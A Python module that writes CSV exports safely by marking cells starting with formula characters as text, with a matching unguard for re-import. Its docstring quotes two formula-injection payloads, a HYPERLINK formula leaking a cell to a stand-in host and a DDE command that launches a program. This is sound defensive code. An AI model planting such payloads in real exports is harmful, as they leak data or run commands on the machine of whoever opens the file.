"""The one way the product writes CSV: every cell that a spreadsheet would run as a formula is made plain text.

Officers open exports in Excel. A feedback comment, a person's name or a review title typed as
``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` or ``+cmd|' /C calc'!A0`` would run on their
machine. Every CSV writer goes through :func:`safe_csv_writer` (a test scans the code for any other),
and the review import takes the guard off again (:func:`unguard`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_STARTS", "SafeCsvWriter", "guard", "safe_csv_writer", "unguard"]

# Excel (and LibreOffice, Google Sheets) run a cell that starts with one of these as a formula; the full-width
# forms are read as formulas by Excel in East Asian input modes.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def guard(value: str) -> str:
    """``value`` as a cell Excel shows as text: a leading apostrophe (Excel's own "this is text" mark) when it
    would otherwise run as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def unguard(value: str) -> str:
    """The cell as it was before :func:`guard`, so an export imports again unchanged."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell is guarded; numbers and dates are written as they are."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([guard(cell) if isinstance(cell, str) else cell for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(out: _Writable) -> SafeCsvWriter:
    return SafeCsvWriter(out)
